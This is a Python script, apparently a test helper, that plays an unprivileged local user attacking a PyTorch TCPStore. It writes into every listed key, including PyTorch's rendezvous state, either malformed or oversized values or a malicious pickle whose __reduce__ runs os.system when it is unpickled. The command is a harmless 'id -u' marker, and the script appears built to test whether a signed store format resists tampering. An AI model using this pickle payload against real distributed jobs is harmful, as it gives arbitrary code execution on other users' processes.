"""Another user's process that reaches a store: writes into every key that it lists, as long as the store answers.

    stranger.py PORT FOLDER KIND SECONDS

KIND: `pickles`, which write a file in FOLDER where they are read; or a kind of garbage. Prints its user and the keys.
"""

import base64
import json
import os
import pickle
import sys
import time
from collections.abc import Callable, Sequence
from datetime import timedelta

import torch.distributed as dist

NOBODY = 65534
PATIENCE = timedelta(seconds=10)


class Payload:
    """Runs a command where it is unpickled."""

    def __init__(self, file: str) -> None:
        self._file = file

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (f"id -u >> {self._file}",)


RAN = "was-run"  # the file that the pickles write


def pickles(folder: str) -> list[bytes]:
    """A pickle as it is, and as PyTorch's rendezvous keeps its state."""
    data = pickle.dumps(Payload(f"{folder}/{RAN}"))
    return [data, base64.b64encode(data)]


GARBAGE = {
    "empty": b"",
    "truncated": b'unsigned {"version": 1, "turn',
    "wrong signature": b"0" * 64 + b' {"version": 1000}',
    "wrong types": b'unsigned {"version": "x", "members": 3, "agent": [], "host": {}, "path": 1, "ranks": "all"}',
    "a number": b"unsigned 7",
    "not text": bytes(range(256)),
    "deep": b"unsigned " + b"[" * 200_000,
    "large": b"unsigned [" + b"0," * (10 << 20) + b"0]",
}


def become_nobody() -> None:
    """Give root's rights away, after all imports: the user nobody may not read where Python stands."""
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)


def put(store: dist.Store, key: str, value: bytes) -> None:
    """Write bytes, which a store takes, though PyTorch's types say that it takes text alone."""
    store.set(key, value)  # pyright: ignore[reportArgumentType]


def jobs_in(keys: Sequence[str]) -> set[str]:
    """The ids of the jobs whose keys a store has."""
    words = [key.split("/") for key in keys]
    return {each[1] for each in words if len(each) > 2 and each[0] == "samestep"}


def attack(store: dist.TCPStore, folder: str, kind: str) -> list[str]:
    """Write into every key once, and into that of PyTorch's rendezvous."""
    keys = [key for key in store.list_keys() if not key.startswith("init/")]  # those of the store itself
    keys += [f"torch.rendezvous.{job}" for job in jobs_in(keys)]
    values = pickles(folder) if kind == "pickles" else [GARBAGE[kind]]
    for key in keys:
        for value in values:
            put(store, key, value)
    return keys


def main() -> None:
    become_nobody()
    port, folder, kind, seconds = int(sys.argv[1]), sys.argv[2], sys.argv[3], float(sys.argv[4])
    store = dist.TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=PATIENCE)
    until, seen = time.monotonic() + seconds, set[str]()
    try:
        while time.monotonic() < until:
            seen.update(attack(store, folder, kind))
            time.sleep(0.05)
    except RuntimeError:
        pass  # the job has ended
    print(json.dumps({"user": os.getuid(), "keys": sorted(seen)}))


if __name__ == "__main__":
    main()
